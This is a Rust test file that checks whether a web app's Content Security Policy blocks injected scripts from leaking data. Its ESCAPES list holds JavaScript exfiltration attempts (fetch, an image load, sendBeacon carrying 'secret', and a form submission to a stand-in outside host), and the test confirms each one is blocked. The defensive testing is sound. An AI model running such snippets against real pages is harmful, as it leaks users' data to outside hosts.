//! The app's policy lets nothing be sent.
//!
//! Code that got into the page could not tell what it sees: every way out is closed but one, that of going to
//! another page, which everybody would see.
// needs: dist, engines

use countersign_tests::app::App;
use serde_json::json;

/// Tries a way out each, and waits until the directive of the page's policy that closes it has done so.
const ESCAPES: [(&str, &str); 5] = [
    ("connect-src", "fetch(outside).catch(() => {})"),
    ("img-src", "new Image().src = outside"),
    ("connect-src", "navigator.sendBeacon(outside, 'secret')"),
    (
        "form-action",
        "const form = document.body.appendChild(document.createElement('form'));
         Object.assign(form, { action: outside });
         // Firefox throws where others are silent.
         try { form.submit() } catch {}",
    ),
    ("require-trusted-types-for", "try { document.body.innerHTML = '<b>' } catch {}"),
];

#[test]
#[ignore = "needs the app and browsers: run by `cargo xtask test`"]
fn nothing_is_fetched_loaded_or_submitted_elsewhere() {
    App::everywhere(|app| {
        for (directive, escape) in ESCAPES {
            let script = "const [directive] = arguments;
                const outside = 'https://outside.example/';
                return new Promise((closed) => {
                  addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
                    if (effectiveDirective === directive) closed();
                  });
                  ESCAPE;
                });";
            app.browser.run(&script.replace("ESCAPE", escape), json!([directive]));
        }
        // They must not be taken for the app's.
        let complaints = app.complaints();
        assert!(complaints.len() >= ESCAPES.len(), "{complaints:#?}");
        app.reload();
    });
}
